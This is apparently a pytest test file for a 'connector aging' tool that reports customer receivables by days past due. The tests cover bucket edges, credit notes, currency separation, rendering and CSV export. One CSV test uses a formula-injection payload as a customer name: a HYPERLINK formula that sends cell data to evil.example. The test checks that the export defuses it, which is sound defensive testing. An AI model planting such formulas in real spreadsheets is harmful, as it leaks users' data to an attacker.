"""`connector aging`: receivables per customer by days past due, from real syncs on the local
ledger (and, for exact due days, rows recorded through `State`). Every figure below is worked
by hand from the test business (tests/conftest.py) as of 2026-11-26 unless said otherwise:

    INV-1001 deposit      4,800.00 USD  due 2026-09-16
    INV-1002 ACME-M1      8,160.00 USD  due 2026-10-07
    INV-1003 ACME-M2     13,770.00 USD  due 2026-11-17
    INV-1004 ACME-M3     24,570.00 USD  due 2026-12-10
    INV-1005 BETA-1       4,000.00 EUR  due 2026-11-05
    INV-1006 retainage    2,700.00 USD  due 2026-12-10
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import typer
from rich.console import Console
from typer.testing import CliRunner

from connector import config as config_mod
from connector import exports, render_aging
from connector.adapters.local import MemoryLedger
from connector.aging import Aging, Bucket, Buckets, CustomerAging, add_up, aging_of, bucket_of
from connector.cli import aging as aging_cli
from connector.errors import ConnectorError, MoneyError
from connector.models import Kind
from connector.sync import run_once
from connector.sync.rows import InvoiceRow
from connector.sync.schema import OutboxAction, OutboxState
from connector.sync.state import State
from connector.sync.status import status_data
from tests.conftest import AS_OF, CONFIG, MILESTONES, Business, make_business
from tests.test_daemon import write_business

D = Decimal


def _app() -> typer.Typer:
    app = typer.Typer()

    @app.callback()
    def _main() -> None:  # a group, so the command keeps its name as in `connector aging`
        pass

    aging_cli.register(app)
    return app


def aging(*args: str) -> tuple[int, str, str]:
    """`connector aging ARGS...` on a small app that registers it: (exit code, stdout, stderr),
    an error given the exit code `connector.cli.main` gives it."""
    result = CliRunner().invoke(_app(), ["aging", *args])
    exc = result.exception
    if isinstance(exc, ConnectorError):
        return exc.exit_code, result.stdout, str(exc)
    if exc is not None and not isinstance(exc, SystemExit):
        raise exc
    return result.exit_code, result.stdout, result.stderr


def as_json(business: Business, as_of: str = "2026-11-26") -> dict:
    code, out, err = aging(
        "--config", str(business.config_path), "--as-of", as_of, "--format", "json"
    )
    assert code == 0, err
    return json.loads(out)


def figures(current="0.00", d30="0.00", d60="0.00", d90="0.00", over="0.00", credit="0.00"):
    """The JSON amounts of one line, `total` worked out from the others."""
    amounts = [current, d30, d60, d90, over, credit]
    total = sum((D(a) for a in amounts), D("0.00"))
    keys = ["current", "days_1_30", "days_31_60", "days_61_90", "days_over_90", "credit"]
    return {**dict(zip(keys, amounts, strict=True)), "total": f"{total:f}"}


def pay(business: Business, number: str, amount: str, on: date) -> None:
    doc = next(d for d in business.ledger.documents() if d.number == number)
    business.ledger.record_payment(doc.ledger_id, D(amount), on)


def partly_paid(business: Business) -> None:
    """Synced; then 800.00 of the deposit and 3,000.00 of ACME-M1 paid, and pulled back."""
    business.sync()
    pay(business, "INV-1001", "800.00", date(2026, 10, 1))
    pay(business, "INV-1002", "3000.00", date(2026, 10, 15))
    assert business.sync().payments_pulled == 2


# -- the buckets ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("days", "bucket"),
    [
        (-30, Bucket.CURRENT),
        (0, Bucket.CURRENT),  # due today is not late yet
        (1, Bucket.DAYS_1_30),
        (30, Bucket.DAYS_1_30),
        (31, Bucket.DAYS_31_60),
        (60, Bucket.DAYS_31_60),
        (61, Bucket.DAYS_61_90),
        (90, Bucket.DAYS_61_90),
        (91, Bucket.OVER_90),
        (4000, Bucket.OVER_90),
    ],
)
def test_days_past_due_fall_in_their_bucket(days, bucket):
    assert bucket_of(days) is bucket


def test_partly_paid_invoices_age_by_their_due_day(business: Business):
    partly_paid(business)
    data = as_json(business)
    assert data == {
        "business": "Northwind Studio",
        "as_of": "2026-11-26",
        "customers": [
            # 1004 + 1006 current; 1003 9 days; 1002 50 days (8,160.00 - 3,000.00);
            # 1001 71 days (4,800.00 - 800.00)
            {
                "customer": "Acme Corporation",
                "currency": "USD",
                **figures("27270.00", "13770.00", "5160.00", "4000.00"),
            },
            {"customer": "Beta Bakery Ltd", "currency": "EUR", **figures(d30="4000.00")},
        ],
        "totals": [
            {"currency": "EUR", **figures(d30="4000.00")},
            {"currency": "USD", **figures("27270.00", "13770.00", "5160.00", "4000.00")},
        ],
        "unconfirmed": [],
    }
    assert data["totals"][1]["total"] == "50200.00"
    # the same money `status` calls outstanding
    status = status_data("N", business.config().contracts, business.state(), AS_OF)
    acme = next(c for c in status["contracts"] if c["contract"] == "ACME-WEB")
    assert (acme["outstanding"], acme["credit"]) == ("50200.00", "0.00")
    assert Aging.from_json(data) == aging_of(
        "Northwind Studio", business.state().invoice_rows(), AS_OF
    )


def test_later_the_same_invoices_move_along_to_over_90_days(business: Business):
    partly_paid(business)
    data = as_json(business, "2026-12-20")
    acme, beta = data["customers"]
    # 1004 + 1006 10 days; 1003 33 days; 1002 74 days; 1001 95 days
    assert acme == {
        "customer": "Acme Corporation",
        "currency": "USD",
        **figures("0.00", "27270.00", "13770.00", "5160.00", "4000.00"),
    }
    assert beta == {"customer": "Beta Bakery Ltd", "currency": "EUR", **figures(d60="4000.00")}


def test_the_edges_of_the_buckets_on_real_invoices(business: Business):
    business.sync()
    rows = business.state().invoice_rows()

    def bucket(number: str, as_of: date) -> str:
        (line,) = [b for b in aging_of("N", [r for r in rows if r.number == number], as_of).totals]
        (held,) = [str(k) for k in Bucket if line.amount(k)]
        return held

    assert bucket("INV-1004", date(2026, 12, 10)) == "current"  # due that day
    assert bucket("INV-1004", date(2026, 12, 11)) == "days_1_30"
    assert bucket("INV-1004", date(2027, 1, 9)) == "days_1_30"  # 30 days
    assert bucket("INV-1004", date(2027, 1, 10)) == "days_31_60"
    assert bucket("INV-1001", date(2026, 12, 15)) == "days_61_90"  # 90 days
    assert bucket("INV-1001", date(2026, 12, 16)) == "days_over_90"  # 91 days


def _row(key: str, due: date, minor: int, customer: str = "Tanaka KK") -> InvoiceRow:
    return InvoiceRow(
        key=key,
        reference=key.upper(),
        action=OutboxAction.CREATE,
        contract="TK-1",
        customer=customer,
        kind=Kind.MILESTONE,
        milestones=(key,),
        milestone_hashes=(),
        revision=1,
        currency="JPY",
        invoice_date=date(2026, 8, 1),
        due_date=due,
        lines=(),
        total_minor=minor,
    )


def test_rows_recorded_in_the_state_on_every_edge_in_yen(tmp_path):
    """A currency without minor units: amounts stay whole yen, no ".00" and no rounding."""
    state = State.open(f"sqlite:///{tmp_path / 's.db'}", "Tanaka", path=tmp_path / "s.db")
    # days past due as of 2026-11-26: 0, 1, 30, 31, 60, 61, 90, 91
    dues = {
        "a": (date(2026, 11, 26), 1),
        "b": (date(2026, 11, 25), 10),
        "c": (date(2026, 10, 27), 100),
        "d": (date(2026, 10, 26), 1_000),
        "e": (date(2026, 9, 27), 10_000),
        "f": (date(2026, 9, 26), 100_000),
        "g": (date(2026, 8, 28), 1_000_000),
        "h": (date(2026, 8, 27), 10_000_000),
    }
    state.record_intents([_row(k, due, yen) for k, (due, yen) in dues.items()])
    state.update_invoices(
        [(k, {"state": OutboxState.PUSHED, "balance_minor": yen}) for k, (_, yen) in dues.items()]
    )
    # one more still `pushing`: the ledger has not said it has it
    state.record_intents([_row("z", date(2026, 11, 1), 7, customer="Other KK")])
    (line,) = aging_of("Tanaka", state.invoice_rows(), AS_OF).customers
    assert line.amounts.to_json() == {
        "currency": "JPY",
        "current": "1",
        "days_1_30": "110",
        "days_31_60": "11000",
        "days_61_90": "1100000",
        "days_over_90": "10000000",
        "credit": "0",
        "total": "11111111",
    }
    unconfirmed = aging_of("Tanaka", state.invoice_rows(), AS_OF).unconfirmed
    assert [(u.reference, u.customer, u.amount) for u in unconfirmed] == [("Z", "Other KK", D(7))]


# -- currencies, credit, what is left out ----------------------------------------------------------


def test_two_currencies_are_never_added(business: Business):
    business.sync()
    report = aging_of("N", business.state().invoice_rows(), AS_OF)
    assert [t.currency for t in report.totals] == ["EUR", "USD"]
    eur, usd = report.totals
    with pytest.raises(MoneyError, match="never adds currencies"):
        usd.plus(eur)
    assert [t.currency for t in add_up([usd, eur, usd])] == ["EUR", "USD"]
    assert add_up([usd, eur, usd])[1].total == D("108000.00")  # 54,000.00 twice, no euros in it
    console = Console(width=80, file=io.StringIO(), force_terminal=False)
    render_aging.business(console, report)
    text = console.file.getvalue()  # type: ignore[attr-defined]
    assert "In EUR" in text and "In USD" in text
    assert "58,000.00" not in text  # 54,000.00 USD + 4,000.00 EUR is no amount at all


def test_a_credit_note_is_set_against_the_invoice_it_credits(tmp_path):
    """Credit and reissue: INV-1003 (13,770.00, 100.00 paid) is credited by CN-1007 and M2
    reissued (INV-1009, 15,810.00); M1 unpaid is voided and reissued (INV-1008, 6,120.00).
    CN-1007's 13,770.00 settles INV-1003's 13,670.00 first, so INV-1003 is not overdue, and
    the customer holds the 100.00 they paid as credit."""
    business = make_business(tmp_path / "b", on_change="credit-and-reissue")
    business.sync()
    pay(business, "INV-1003", "100.00", AS_OF)
    business.milestones(
        MILESTONES.replace('percent = "20"', 'percent = "15"').replace(
            'percent = "30"', 'percent = "35"'
        )
    )
    business.sync()
    (acme, _) = as_json(business)["customers"]
    # current 1004 + 1006; 1-30 1009 (9 days); 31-60 1008 (50 days); 61-90 1001 (71 days)
    assert acme == {
        "customer": "Acme Corporation",
        "currency": "USD",
        **figures("27270.00", "15810.00", "6120.00", "4800.00", credit="-100.00"),
    }
    assert acme["total"] == "53900.00"
    status = status_data("N", business.config().contracts, business.state(), AS_OF)
    assert next(c for c in status["contracts"] if c["contract"] == "ACME-WEB")["outstanding"] == (
        "53900.00"
    )
    code, out, _ = aging(
        "--config", str(business.config_path), "--as-of", "2026-11-26", "--format", "csv"
    )
    assert code == 0
    (row,) = [
        r
        for r in csv.reader(io.StringIO(out))
        if r[:3] == ["customer", "Northwind Studio", "Acme Corporation"]
    ]
    assert row[-2:] == ["-100.00", "53900.00"]  # a negative number stays a number
    # the 100.00 refunded from the credit note: nothing left of either document
    pay(business, "CN-1007", "100.00", AS_OF)
    business.sync()
    (acme, _) = as_json(business)["customers"]
    assert acme == {
        "customer": "Acme Corporation",
        "currency": "USD",
        **figures("27270.00", "15810.00", "6120.00", "4800.00"),
    }


def test_an_unconfirmed_invoice_is_listed_not_counted(business: Business):
    business.ledger.remember_keys = False  # only a lookup can find what the ledger got
    business.ledger.fail_next("create_invoices", "drop")
    assert business.sync().in_doubt > 0
    code, out, _ = aging("--config", str(business.config_path), "--as-of", "2026-11-26")
    flat = " ".join(out.split())
    assert code == 1
    assert "not counted:" in flat and "for Acme Corporation, 4800.00 USD" in flat
    assert "not yet confirmed by the ledger; the next sync checks" in flat
    code, out, err = aging("--config", str(business.config_path), "--format", "csv")
    assert code == 1 and "not counted: " in err and "Acme" not in out  # only the header
    business.sync()
    code, out, _ = aging("--config", str(business.config_path), "--as-of", "2026-11-26")
    assert code == 0 and "not counted" not in out and "54,000.00" in out


# -- many businesses ----------------------------------------------------------------------------


def folder_of_two(tmp_path: Path) -> tuple[str, ...]:
    """alpha and beta synced on their local ledgers, alpha's ACME-M1 3,000.00 paid (so its
    31-60 is 5,160.00, beta's 8,160.00), and gamma.toml that cannot load; the arguments that
    age the folder as of 2026-11-26."""
    alpha = write_business(tmp_path, "alpha")
    beta = write_business(tmp_path, "beta")
    for path in (alpha, beta):
        run_once(config_mod.load(path), as_of=AS_OF)
    ledger = MemoryLedger(tmp_path / "alpha-ledger.json")
    m1 = next(d for d in ledger.documents() if d.number == "INV-1002")
    ledger.record_payment(m1.ledger_id, D("3000.00"), date(2026, 10, 15))
    run_once(config_mod.load(alpha), as_of=AS_OF)
    (tmp_path / "gamma.toml").write_text('[business]\nname = "gamma"\ncolour = "red"\n')
    return ("--config-dir", str(tmp_path), "--as-of", "2026-11-26")


def test_two_businesses_from_a_folder_and_across_them(tmp_path):
    code, out, _ = aging(*folder_of_two(tmp_path), "--format", "json")
    assert code == 1  # gamma cannot load
    data = json.loads(out)
    assert list(data) == ["businesses", "totals"]
    a, b, gamma = data["businesses"]
    assert (a["business"], b["business"]) == ("alpha", "beta")
    assert gamma["business"] is None and "colour" in gamma["error"]
    assert a["totals"][1] == {
        "currency": "USD",
        **figures("27270.00", "13770.00", "5160.00", "4800.00"),
    }
    assert b["totals"][1] == {
        "currency": "USD",
        **figures("27270.00", "13770.00", "8160.00", "4800.00"),
    }
    assert data["totals"] == [
        {"currency": "EUR", **figures(d30="8000.00")},
        {"currency": "USD", **figures("54540.00", "27540.00", "13320.00", "9600.00")},
    ]
    assert data["totals"][1]["total"] == "105000.00"


def test_a_folder_as_tables_and_csv(tmp_path):
    args = folder_of_two(tmp_path)
    code, out, _ = aging(*args)
    flat = " ".join(out.split())
    assert code == 1 and "cannot load:" in flat and "gamma.toml" in flat
    assert "All businesses: receivables as of 2026-11-26" in flat
    assert "alpha 27,270.00 13,770.00 5,160.00 4,800.00 51,000.00" in flat
    assert "Total 54,540.00 27,540.00 13,320.00 9,600.00 105,000.00" in flat
    code, out, err = aging(*args, "--format", "csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert [
        "all",
        "",
        "",
        "2026-11-26",
        "USD",
        "54540.00",
        "27540.00",
        "13320.00",
        "9600.00",
        "0.00",
        "0.00",
        "105000.00",
    ] in rows
    assert sum(1 for r in rows if r[0] == "customer") == 4
    assert "cannot load: " in err and "gamma.toml" in err


def test_the_folder_in_the_environment_is_the_default(tmp_path, monkeypatch):
    folder_of_two(tmp_path)
    (tmp_path / "gamma.toml").unlink()
    monkeypatch.setenv("CONNECTOR_CONFIG_DIR", str(tmp_path))
    code, out, _ = aging("--as-of", "2026-11-26", "--format", "json")
    assert code == 0
    assert [b["business"] for b in json.loads(out)["businesses"]] == ["alpha", "beta"]
    code, out, _ = aging("--config", str(tmp_path / "beta.toml"), "--format", "json")
    assert code == 0 and json.loads(out)["business"] == "beta"  # --config still wins


def test_without_as_of_each_business_ages_as_of_its_own_today(business: Business):
    business.sync()
    before = datetime.now(ZoneInfo("America/Chicago")).date()
    code, out, _ = aging("--config", str(business.config_path), "--format", "json")
    after = datetime.now(ZoneInfo("America/Chicago")).date()
    assert code == 0 and json.loads(out)["as_of"] in {before.isoformat(), after.isoformat()}


def test_aging_only_reads_the_state(tmp_path):
    never = make_business(tmp_path / "never")
    code, out, _ = aging("--config", str(never.config_path), "--as-of", "2026-11-26")
    assert code == 0 and "Nothing owed." in out
    assert not (never.dir / "state.db").exists()  # a business never synced: nothing is created
    synced = make_business(tmp_path / "synced")
    synced.sync()
    before = (synced.dir / "state.db").read_bytes()
    assert aging("--config", str(synced.config_path), "--format", "csv")[0] == 0
    assert (synced.dir / "state.db").read_bytes() == before


def test_exactly_one_of_config_or_folder_and_a_known_format(business: Business, monkeypatch):
    monkeypatch.delenv("CONNECTOR_CONFIG_DIR", raising=False)
    code, _, err = aging()
    assert code == 2 and "exactly one of --config FILE or --config-dir DIR" in err
    code, _, err = aging("--config", str(business.config_path), "--config-dir", str(business.dir))
    assert code == 2
    code, _, err = aging("--config", str(business.config_path), "--format", "xml")
    assert code == 2 and "xml" in err


# -- rendering ----------------------------------------------------------------------------------


def rendered(report: Aging, width: int) -> str:
    console = Console(width=width, file=io.StringIO(), force_terminal=False)
    render_aging.business(console, report)
    return console.file.getvalue()  # type: ignore[attr-defined]


def test_the_table_keeps_every_customer_whole_at_80_columns(tmp_path):
    business = make_business(tmp_path / "b", on_change="credit-and-reissue")
    business.sync()
    pay(business, "INV-1003", "100.00", AS_OF)
    business.milestones(
        MILESTONES.replace('percent = "20"', 'percent = "15"').replace(
            'percent = "30"', 'percent = "35"'
        )
    )
    business.sync()  # a credit column too: the widest table this business has
    report = aging_of("Northwind Studio", business.state().invoice_rows(), AS_OF)
    text = rendered(report, 80)
    assert all(len(line) <= 80 for line in text.splitlines())
    assert "…" not in text
    acme = next(line for line in text.splitlines() if "Acme" in line)
    assert acme.split() == [
        "Acme", "Corporation",
        "27,270.00", "15,810.00", "6,120.00", "4,800.00", "-100.00", "53,900.00",
    ]  # fmt: skip
    assert any(line.startswith("Beta Bakery Ltd ") for line in text.splitlines())
    # narrower: one line per bucket under the name, which stays whole, as do the amounts
    narrow = rendered(report, 50)
    assert "…" not in narrow and all(len(line) <= 50 for line in narrow.splitlines())
    assert any(line.startswith("Acme Corporation ") for line in narrow.splitlines())
    assert "53,900.00" in narrow and "-100.00" in narrow


def test_a_long_name_and_markup_are_shown_whole_as_text():
    name = "Fabrikam Residential Construction Partners of Greater Chicago [bold]LLC[/bold]"
    amounts = Buckets(
        "USD", (D("1234567.89"), D("0.00"), D("0.00"), D("0.00"), D("5.00")), D("0.00")
    )
    report = Aging("[red]Studio[/red]", AS_OF, (CustomerAging(name, amounts),), (amounts,))
    text = rendered(report, 80)
    assert "[red]Studio[/red]: receivables as of 2026-11-26" in text
    assert "…" not in text and "1,234,572.89" in text
    lines = text.splitlines()
    header = next(n for n, line in enumerate(lines) if line.startswith("Customer"))
    width = lines[header].index("Age")  # too long beside the amounts: the long layout
    body = lines[header + 2 : next(n for n in range(header + 2, len(lines)) if "─" in lines[n])]
    assert " ".join(line[:width].strip() for line in body).split() == name.split()


def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    text = CONFIG.replace(
        'customer = "Acme Corporation"',
        'customer = \'=HYPERLINK("http://evil.example/?d="&A1,"Click")\'',
    )
    text = text.replace('customer = "Beta Bakery Ltd"', 'customer = "-2+3"')
    text = text.replace('name = "Northwind Studio"', 'name = "@Northwind"')
    root = tmp_path / "b"
    business = make_business(root)
    business.config_path.write_text(
        text.replace("{on_change}", "flag").replace("{state}", 'path = "state.db"')
    )
    business.sync()
    code, out, _ = aging(
        "--config", str(business.config_path), "--as-of", "2026-11-26", "--format", "csv"
    )
    assert code == 0
    header, *rows = list(csv.reader(io.StringIO(out)))
    assert header == [
        "scope", "business", "customer", "as_of", "currency", "current", "days_1_30",
        "days_31_60", "days_61_90", "days_over_90", "credit", "total",
    ]  # fmt: skip
    assert rows[0] == [
        "customer",
        "'@Northwind",
        "'-2+3",
        "2026-11-26",
        "EUR",
        "0.00",
        "4000.00",
        "0.00",
        "0.00",
        "0.00",
        "0.00",
        "4000.00",
    ]
    assert rows[1][:3] == [
        "customer",
        "'@Northwind",
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    ]
    assert rows[1][5:] == ["27270.00", "13770.00", "8160.00", "4800.00", "0.00", "0.00", "54000.00"]
    assert [r[0] for r in rows] == ["customer", "customer", "business", "business"]
    report = aging_of("@Northwind", business.state().invoice_rows(), AS_OF)
    assert render_aging.csv_text([report]).count("\r\n") == 5  # RFC 4180 line ends


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-100.00", "-100.00"),  # a plain number: it stays one
        ("-5", "-5"),
        ("Acme = best", "Acme = best"),
        ("", ""),
    ],
)
def test_csv_cells(cell, safe):
    assert exports.shown_cell(cell) == safe


# -- the real command ------------------------------------------------------------------------------


def test_connector_aging_command_is_registered(business: Business):
    """`connector aging` through the installed console script. Passes once
    `connector/cli/__init__.py` calls `aging.register(app)`."""
    business.sync()
    exe = Path(sys.executable).with_name("connector")
    done = subprocess.run(
        [
            str(exe),
            "aging",
            "--config",
            str(business.config_path),
            "--as-of",
            "2026-11-26",
            "--format",
            "json",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["business"] == "Northwind Studio"
    assert [t["total"] for t in data["totals"]] == ["4000.00", "54000.00"]
